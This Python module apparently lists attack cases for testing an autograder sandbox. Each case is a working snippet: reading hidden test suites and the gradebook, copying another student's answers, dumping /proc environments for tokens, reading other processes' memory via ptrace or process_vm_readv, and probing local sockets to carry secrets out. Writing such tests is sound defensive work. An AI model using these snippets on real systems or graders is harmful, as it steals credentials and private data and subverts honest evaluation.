"""Attacks that read what they should not know. Without the wall each of them succeeds."""

from attacks.corpus.attack import Attack


def _reading(name: str, aim: str, code: str, secret: str) -> Attack:
    return Attack(name, aim, code, reads=secret, control=True)


READING = (
    _reading(
        "reads the hidden suite",
        "Opens the hidden tests where the grader keeps them.",
        "print(open(places['suite']).read())",
        "suite",
    ),
    _reading(
        "searches for the hidden suite",
        "Walks through the whole course and prints every file with tests.",
        """
import os
for folder, _, names in os.walk(places["course"]):
    for name in names:
        if name.startswith("test_"):
            print(open(os.path.join(folder, name)).read())
""",
        "suite",
    ),
    _reading(
        "imports the hidden suite",
        "Puts the grader's folder on the path and imports the tests as a module.",
        """
import importlib, os, sys
sys.path.insert(0, os.path.dirname(places["suite"]))
print(importlib.import_module("test_planted").SECRET)
""",
        "suite",
    ),
    _reading(
        "asks a shell for the hidden suite",
        "Lets IPython's ! run cat, which may see more than Python.",
        "!cat {places['suite']}",
        "suite",
    ),
    _reading(
        "follows a link to the hidden suite",
        "Reads through a symbolic link of its own that leads out of the scratch directory.",
        """
import os
os.symlink(places["suite"], "link")
print(open("link").read())
""",
        "suite",
    ),
    _reading(
        "reads the gradebook",
        "Opens nbgrader's database, in which the hidden tests and all grades stand.",
        """
import sqlite3
gradebook = sqlite3.connect(f"file:{places['gradebook']}?mode=ro", uri=True)
print(gradebook.execute("select * from grade").fetchall())
""",
        "gradebook",
    ),
    _reading(
        "reads another student's work",
        "Copies the answers of a submission that lies beside its own.",
        "print(open(places['submission']).read())",
        "submission",
    ),
    _reading(
        "reads another kernel's connection",
        "Looks for the key with which it could talk to another student's kernel.",
        """
import glob
for path in glob.glob(places["temporary"] + "/autograder-*/*/kernel.json"):
    print(open(path).read())
""",
        "connection",
    ),
    _reading(
        "reads a process's environment",
        "Takes tokens and passwords from the environment that a process was started with.",
        "print(open(f\"/proc/{places['process']}/environ\").read())",
        "environment",
    ),
    _reading(
        "reads every process's environment",
        "Does the same for whatever processes there are.",
        """
import glob
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        print(open(path).read())
    except OSError:
        pass
""",
        "environment",
    ),
    _reading(
        "reads a command line",
        "Reads the arguments of other processes.",
        "print(open(f\"/proc/{places['process']}/cmdline\").read())",
        "argument",
    ),
    _reading(
        "takes a descriptor from /proc",
        "Opens a deleted file that another process still holds open.",
        "print(open(f\"/proc/{places['process']}/fd/{places['descriptor']}\").read())",
        "descriptor",
    ),
    _reading(
        "takes a descriptor by a system call",
        "Duplicates another process's descriptor with pidfd_getfd.",
        """
import ctypes, os
handle = os.pidfd_open(places["process"])
copy = ctypes.CDLL(None).syscall(438, handle, places["descriptor"], 0)
print(os.pread(copy, 1000, 0))
""",
        "descriptor",
    ),
    _reading(
        "goes in through another process's root",
        "Reads the machine's files as another process sees them.",
        "print(open(f\"/proc/{places['process']}/root{places['suite']}\").read())",
        "suite",
    ),
    _reading(
        "goes in through another process's folder",
        "Reads a file in the working directory of another process.",
        "print(open(f\"/proc/{places['process']}/cwd/notes\").read())",
        "notes",
    ),
    _reading(
        "reads another process's memory",
        "Reads memory through /proc.",
        """
with open(f"/proc/{places['process']}/mem", "rb", 0) as memory:
    memory.seek(places["address"])
    print(memory.read(100))
""",
        "memory",
    ),
    _reading(
        "reads memory by a system call",
        "Reads another process's memory with process_vm_readv.",
        """
import ctypes
here = ctypes.create_string_buffer(100)
Span = ctypes.c_size_t * 2
ctypes.CDLL(None).process_vm_readv(
    places["process"], Span(ctypes.addressof(here), 100), 1, Span(places["address"], 100), 1, 0)
print(here.raw)
""",
        "memory",
    ),
    _reading(
        "reads memory with ptrace",
        "Stops another process like a debugger and looks at its memory.",
        """
import ctypes, os, time
libc = ctypes.CDLL(None)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long] * 2 + [ctypes.c_void_p] * 2
PEEK, ATTACH, DETACH = 2, 16, 17
if libc.ptrace(ATTACH, places["process"], None, None) == 0:
    os.waitpid(places["process"], 0x40000000)
    words = [libc.ptrace(PEEK, places["process"], places["address"] + i, None)
             for i in range(0, 96, 8)]
    libc.ptrace(DETACH, places["process"], None, None)
    print(b"".join((word % 2**64).to_bytes(8, "little") for word in words))
""",
        "memory",
    ),
    _reading(
        "reads the memory of what started it",
        "Goes up from parent to parent, to the grader, and reads the memory of each.",
        """
import os
process = os.getpid()
while process > 0:
    status = dict(line.split(":", 1) for line in open(f"/proc/{process}/status"))
    process = int(status["PPid"])
    try:
        with open(f"/proc/{process}/mem", "rb", 0) as memory:
            memory.seek(places["address in the grader"])
            print(memory.read(100))
    except OSError:
        pass
""",
        "grader",
    ),
    _reading(
        "attaches System V shared memory",
        "Attaches a segment that another process has made.",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_ssize_t
here = libc.shmat(places["segment"], None, 0o10000)
print(ctypes.string_at(here, 100) if here != -1 else "refused")
""",
        "segment",
    ),
    _reading(
        "opens POSIX shared memory",
        "Opens shared memory of another process by its name.",
        "print(open(f\"/dev/shm/{places['shared name']}\").read())",
        "shared",
    ),
    _reading(
        "connects to a TCP port",
        "Asks a service of the machine, which might hold answers, over the loopback device.",
        """
import socket
with socket.create_connection(("127.0.0.1", places["tcp"]), timeout=5) as connection:
    print(connection.recv(1000))
""",
        "tcp",
    ),
    _reading(
        "sends a UDP packet",
        "Carries answers in and secrets out in single packets.",
        """
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
    packets.settimeout(1)
    packets.sendto(b"what is the answer?", ("127.0.0.1", places["udp"]))
    print(packets.recv(1000))
""",
        "udp",
    ),
    _reading(
        "asks a name server",
        "Looks a name up, whose letters could carry a secret out.",
        """
import socket
query = (b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"\\6answer\\7example\\0" + b"\\0\\20\\0\\1")
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
    packets.settimeout(1)
    packets.sendto(query, ("127.0.0.1", places["udp"]))
    print(packets.recv(1000))
""",
        "udp",
    ),
    _reading(
        "connects to an abstract Unix socket",
        "Talks to a socket that has a name and no file, so that no mount hides it.",
        """
import socket
with socket.socket(socket.AF_UNIX) as connection:
    connection.connect("\\0" + places["abstract"])
    print(connection.recv(1000))
""",
        "abstract",
    ),
    _reading(
        "connects to a Unix socket",
        "Talks to a service of the machine through its socket file, like Docker's.",
        """
import socket
with socket.socket(socket.AF_UNIX) as connection:
    connection.connect(places["socket"])
    print(connection.recv(1000))
""",
        "socket",
    ),
    Attack(
        "imports the reference",
        "Hands in the reference solutions as its own.",
        "from solutions.shrinkage import *",
        answers=True,
        told="ModuleNotFoundError",
        control=True,
    ),
    Attack(
        "reads what it has inherited",
        "Reads from every open descriptor that its kernel was started with.",
        """
import os
for name in os.listdir("/proc/self/fd"):
    try:
        os.set_blocking(int(name), False)
        print(name, os.readlink(f"/proc/self/fd/{name}"), os.pread(int(name), 1000, 0))
    except OSError:
        pass
""",
        reads="suite",
    ),
    Attack(
        "searches memory for hidden inputs",
        "Looks through all Python objects for questions and answers, before and when it is asked.",
        f"""
import gc
def posterior_mean(*args):
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "answer" in thing:
            return thing["answer"]
    raise LookupError(str(args))
{"data_weight = shrinkage_shift = plot_shrinkage = posterior_mean"}
posterior_mean()
""",
        answers=True,
    ),
    Attack(
        "notes hidden inputs for later",
        "Keeps what it is asked in a file, and prints that file in a later life of the kernel.",
        """
import os
print("noted:", os.path.exists("/scratch/notes") and open("/scratch/notes").read())
def posterior_mean(*args):
    open("/scratch/notes", "a").write(str(args))
    os._exit(0)
data_weight = shrinkage_shift = plot_shrinkage = posterior_mean
""",
        answers=True,
        told="noted: False",
    ),
)
